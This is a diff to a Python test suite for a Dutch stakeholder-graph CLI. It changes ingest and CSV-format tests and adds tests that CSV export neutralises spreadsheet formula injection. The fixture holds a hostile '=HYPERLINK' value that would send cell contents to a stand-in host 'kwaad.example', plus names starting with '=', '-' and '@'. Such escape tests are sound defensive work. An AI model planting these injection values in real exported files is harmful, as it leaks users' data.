@@ -140,18 +140,29 @@ def test_ingest_warns_about_skipped_files_and_strict_exits_1(corpus: Path, tmp_p
     (extra / "tabel.xyz").write_text("Zwolle;Kampen", encoding="utf-8")
     (extra / "goed.txt").write_text(NIEUWS, encoding="utf-8")
     db = str(tmp_path / "skip.db")
-    args = ("ingest", extra, extra / "tabel.xyz", tmp_path / "bestaat-niet", "--store", db)
+    args = ("ingest", extra, extra / "tabel.xyz", "--store", db)
     result = run(*args)
     assert result.exit_code == 0
     warnings = result.stderr.strip().splitlines()
-    assert len(warnings) == 4 and all(w.startswith("warning: skipped ") for w in warnings)
-    for name, reason in (("leeg.txt", "empty"), ("kapot.pdf", "PDF"), ("tabel.xyz", "unsupported"),
-                         ("bestaat-niet", "no such file")):
+    assert len(warnings) == 3 and all(w.startswith("warning: skipped ") for w in warnings)
+    for name, reason in (("leeg.txt", "empty"), ("kapot.pdf", "PDF"), ("tabel.xyz", "unsupported")):
         assert any(name in w and reason in w for w in warnings), (name, warnings)
-    assert result.stdout.strip() == "1 ingested, 0 unchanged, 4 skipped"
+    assert result.stdout.strip() == "1 ingested, 0 unchanged, 3 skipped"
     strict = run(*args, "--strict")
-    assert strict.exit_code == 1 and "4 skipped" in strict.stdout
+    assert strict.exit_code == 1 and "3 skipped" in strict.stdout
     assert run("ingest", extra / "goed.txt", "--store", db, "--strict").exit_code == 0
+
+
+def test_ingest_of_a_path_that_does_not_exist_is_a_usage_error(corpus: Path, tmp_path: Path,
+                                                                 monkeypatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    result = run("ingest", "./bestaat-niet")
+    assert result.exit_code == 2 and result.stdout == ""
+    assert result.stderr == "stakegraph: error: no such file or folder: bestaat-niet\n"
+    assert not (tmp_path / "stakegraph.db").exists() and list(tmp_path.iterdir()) == []
+    # one missing path among good ones: nothing is ingested, no store appears
+    err = one_line_error(run("ingest", corpus, "ontbreekt.txt", "--store", "nieuw.db"))
+    assert "ontbreekt.txt" in err and not (tmp_path / "nieuw.db").exists()
 
 
 def test_ingest_into_something_that_is_not_a_store(corpus: Path, tmp_path: Path) -> None:
@@ -216,9 +227,19 @@ def test_relations_in_every_format(ingested: tuple[str, Result]) -> None:
     for r in data:
         assert r["evidence"] and {"document", "start", "end", "sentence", "rule"} <= set(r["evidence"][0])
         assert r["sentences"] and r["source_name"] and r["target_name"]
-    rows = list(csv.reader(io.StringIO(run("relations", "--store", db, "--format", "csv").stdout)))
-    assert rows[0] == ["type", "source_name", "target_name", "role", "status", "confidence", "evidence"]
-    assert len(rows) == len(data) + 1
+    rows = list(csv.DictReader(io.StringIO(run("relations", "--store", db, "--format", "csv").stdout)))
+    assert list(rows[0]) == ["type", "source_id", "source_name", "target_id", "target_name", "role", "status",
+                             "confidence", "rule", "document", "document_date", "sentence", "start", "end"]
+    # one row per piece of evidence, each with everything an analyst needs to read it on its own
+    want = sorted((r["type"], r["source"], r["source_name"], r["target"], r["target_name"], str(ev["start"]),
+                   ev["document"], ev["rule"], " ".join(ev["sentence"].split()))
+                  for r in data for ev in r["evidence"])
+    got = sorted((r["type"], r["source_id"], r["source_name"], r["target_id"], r["target_name"], r["start"],
+                  r["document"], r["rule"], r["sentence"]) for r in rows)
+    assert got == want
+    dated = {d["name"]: d.get("date") for d in json.loads(run("export", "json", "--store", db).stdout)["documents"]}
+    assert all(r["document_date"] == (dated[r["document"]] or "") for r in rows)
+    assert all(0 < float(r["confidence"]) <= 1 for r in rows)
     zwolle = json.loads(run("relations", "--store", db, "--entity", "gemeente Zwolle", "--format", "json")
                         .stdout)
     assert zwolle and all("gemeente:gm0193" in (r["source"], r["target"]) for r in zwolle)
@@ -439,3 +460,93 @@ def test_demo_ranks_the_bundled_samples(tmp_path: Path) -> None:
     rows = rows_of_table(result.stdout)
     assert 5 <= len(rows) <= 8
     assert (tmp_path / "demo.db").is_file()
+
+
+# -- spreadsheets, names that are not found or mean two ------------------------------------------
+def hostile_store(path: Path) -> str:
+    """A store whose names and sentences would run as formulas in a spreadsheet if left as they are."""
+    from stakegraph.graph.model import Document, DocumentFacts, Entity, Evidence, Relation
+    from stakegraph.graph.sqlite import SQLiteStore
+
+    sentence = '=HYPERLINK("http://kwaad.example/?"&A1;"klik") zegt @Piet, +31 6 1234, -- \tZwolle.'
+    facts = DocumentFacts(
+        Document("d1", "kwaad.txt", str(path / "kwaad.txt"), date="2024-05-01"),
+        entities=[Entity("person:piet", "Person", "=Piet+1", ["@Piet"], ["kwaad.txt"], 2),
+                  Entity("gemeente:gm0193", "Municipality", "Zwolle", ["gemeente Zwolle"], ["kwaad.txt"], 1)],
+        relations=[Relation("HOLDS_POSITION", "person:piet", "gemeente:gm0193", role="-wethouder",
+                            status="current", confidence=0.8,
+                            evidence=[Evidence("kwaad.txt", 0, len(sentence), sentence, "@rule", 0.8)])],
+    )
+    db = str(path / "kwaad.db")
+    with SQLiteStore(db) as store:
+        store.upsert(facts)
+    return db
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
+    db = hostile_store(tmp_path)
+    outputs = [run("relations", "--store", db, "--format", "csv").stdout,
+               run("entities", "--store", db, "--format", "csv").stdout]
+    assert run("export", "csv", "-o", str(tmp_path / "neo"), "--store", db).exit_code == 0
+    outputs += [(tmp_path / "neo" / n).read_text(encoding="utf-8") for n in ("nodes.csv", "relationships.csv")]
+    cells = [c for text in outputs for row in csv.reader(io.StringIO(text)) for c in row]
+    assert "'=Piet+1" in cells and "'-wethouder" in cells and "'@rule" in cells
+    assert any(c.startswith("'=HYPERLINK(") for c in cells)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    relation = next(csv.DictReader(io.StringIO(outputs[0])))
+    assert relation["document_date"] == "2024-05-01" and relation["confidence"] == "0.8"
+    # JSON keeps the text as it was read
+    data = json.loads(run("relations", "--store", db, "--format", "json").stdout)
+    assert data[0]["evidence"][0]["sentence"].startswith("=HYPERLINK(")
+
+
+def test_show_suggests_the_closest_names_once_each(ingested: tuple[str, Result]) -> None:
+    db, _ = ingested
+    err = one_line_error(run("show", "Marieke van Dalne", "--store", db))
+    assert err.startswith("stakegraph: error: no stakeholder named 'Marieke van Dalne' (did you mean: "
+                          "Marieke van Dalen")
+    names = err.split("did you mean: ", 1)[1].rstrip("?)").split("; ")
+    assert len(names) == len(set(names))  # an entity and its alias ("Van Dalen") count once
+    # a name no stakeholder resembles gets no list of every "gemeente ..." in the store
+    err = one_line_error(run("show", "gemeente Leiden", "--store", db))
+    assert err == "stakegraph: error: no stakeholder named 'gemeente Leiden'"
+
+
+def two_groningens(path: Path) -> str:
+    from stakegraph.graph.model import Document, DocumentFacts, Entity
+    from stakegraph.graph.sqlite import SQLiteStore
+
+    facts = DocumentFacts(Document("d1", "noorden.txt", str(path / "noorden.txt")), entities=[
+        Entity("gemeente:gm0014", "Municipality", "Groningen", ["gemeente Groningen"], ["noorden.txt"], 3),
+        Entity("provincie:pv20", "Province", "Groningen", ["provincie Groningen"], ["noorden.txt"], 1)])
+    db = str(path / "noorden.db")
+    with SQLiteStore(db) as store:
+        store.upsert(facts)
+    return db
+
+
+def test_show_on_a_name_of_two_stakeholders_says_so_and_how_to_choose(tmp_path: Path) -> None:
+    db = two_groningens(tmp_path)
+    err = one_line_error(run("show", "Groningen", "--store", db))
+    assert err == ("stakegraph: error: 'Groningen' names 2 stakeholders; choose one by name or id: "
+                   "Groningen (Municipality): 'gemeente Groningen' or gemeente:gm0014; "
+                   "Groningen (Province): 'provincie Groningen' or provincie:pv20")
+    for way, eid in (("gemeente Groningen", "gemeente:gm0014"), ("provincie Groningen", "provincie:pv20"),
+                     ("provincie:pv20", "provincie:pv20")):
+        shown = run("show", way, "--store", db, "--format", "json")
+        assert shown.exit_code == 0 and json.loads(shown.stdout)["entity"]["id"] == eid
+    assert "names 2 stakeholders" in one_line_error(run("reject", "Groningen", "--store", db))
+
+
+def test_sqlite_urls_follow_the_sqlalchemy_convention(corpus: Path, tmp_path: Path, monkeypatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    absolute = tmp_path / "abs" / "graph.db"
+    assert run("ingest", corpus, "--store", f"sqlite:///{absolute}").exit_code == 0  # four slashes
+    assert absolute.is_file()
+    assert run("ingest", corpus, "--store", "sqlite:///rel/graph.db").exit_code == 0  # three: relative
+    assert (tmp_path / "rel" / "graph.db").is_file()
+    err = one_line_error(run("stats", "--store", "sqlite:///nergens/graph.db"))
+    assert err.endswith("(sqlite:///nergens/graph.db is the relative path nergens/graph.db; "
+                        "an absolute one is sqlite:////nergens/graph.db)")
+    err = one_line_error(run("stats", "--store", "sqlite://graph.db"))
+    assert "write sqlite:///relative.db or sqlite:////absolute/path.db" in err
